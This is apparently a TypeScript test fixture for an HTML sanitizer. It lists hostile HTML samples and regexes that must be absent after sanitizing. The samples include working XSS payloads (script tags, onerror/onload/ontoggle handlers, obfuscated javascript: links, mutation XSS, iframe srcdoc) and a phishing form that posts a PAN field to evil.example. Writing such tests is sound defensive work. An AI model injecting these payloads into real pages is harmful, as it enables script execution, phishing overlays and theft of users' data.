// Hostile HTML for the sanitizer tests (server-side unit test and the browser test): each sample
// tries one way to run script, restyle or cover the page, post a form elsewhere, load another
// site's content or navigate away. Anything that runs sets window.__pwned.

/** What a content editor legitimately writes: must survive sanitizing unchanged. */
export const SAFE_HTML =
  '<h2>Safe heading</h2><p>Kept <a href="/contact-us">our contact page</a> and <strong>bold</strong>.</p>' +
  '<img src="/api/site-images/logo.svg" alt="Firm logo">' +
  '<img src="/api/site-images/notice.webp" alt="Notice" data-text-in-picture="true">';

export const HOSTILE_SAMPLES: Record<string, { html: string; mustNotContain: RegExp }> = {
  script: {
    html: '<script>window.__pwned = "script"</script>',
    mustNotContain: /<script|__pwned/i,
  },
  'event handler': {
    html: '<img src="/x.png" onerror="window.__pwned = \'onerror\'">',
    mustNotContain: /onerror|__pwned/i,
  },
  'javascript: link': {
    html: '<a href="javascript:window.__pwned=\'js-link\'">Click me</a>',
    mustNotContain: /javascript:/i,
  },
  'obfuscated javascript: link': {
    html: '<a href=" JaVa&#x09;ScRiPt:window.__pwned=1">Click</a>',
    mustNotContain: /script:|__pwned/i,
  },
  'svg script': {
    html: '<svg><script>window.__pwned = "svg"</script><a xlink:href="javascript:1"><text>x</text></a></svg>',
    mustNotContain: /<svg|<script|javascript:/i,
  },
  'svg onload': {
    html: '<svg onload="window.__pwned = \'svg-onload\'"><circle r="5"/></svg>',
    mustNotContain: /<svg|onload|__pwned/i,
  },
  'mutation XSS': {
    html: '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'"></style></mglyph></table></mtext></math>',
    mustNotContain: /onerror|<style|<math|__pwned/i,
  },
  'style element': {
    html: '<style>body { display: none !important }</style>',
    mustNotContain: /<style|display:\s*none/i,
  },
  'style attribute': {
    html: '<p style="position:fixed;inset:0;z-index:9999;background:#c00">Your account is blocked</p>',
    mustNotContain: /style=|position:\s*fixed/i,
  },
  form: {
    html: '<form action="https://evil.example/steal" method="post"><input name="pan"><button>Verify PAN</button></form>',
    mustNotContain: /<form|<input|<button|evil\.example/i,
  },
  'external image': {
    html: '<img src="https://tracker.example/pixel.gif" alt="tracker">',
    mustNotContain: /tracker\.example/i,
  },
  'protocol-relative image': {
    html: '<img src="//tracker.example/p.gif" alt="p">',
    mustNotContain: /tracker\.example/i,
  },
  iframe: {
    html: '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    mustNotContain: /<iframe|srcdoc|evil\.example/i,
  },
  'meta refresh': {
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    mustNotContain: /<meta|refresh|evil\.example/i,
  },
  'data: URLs': {
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open</a><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="d">',
    mustNotContain: /data:/i,
  },
  'base, link, object, embed': {
    html: '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    mustNotContain: /<base|<link|<object|<embed|evil\.example/i,
  },
  'details ontoggle': {
    html: '<details open ontoggle="window.__pwned=\'toggle\'"><summary>More</summary></details>',
    mustNotContain: /ontoggle|__pwned/i,
  },
};

/** Every sample between two safe parts, as one stored page. */
export const HOSTILE_PAGE =
  SAFE_HTML +
  Object.values(HOSTILE_SAMPLES)
    .map((s) => `<div>${s.html}</div>`)
    .join('\n') +
  '<p>Safe end</p>';
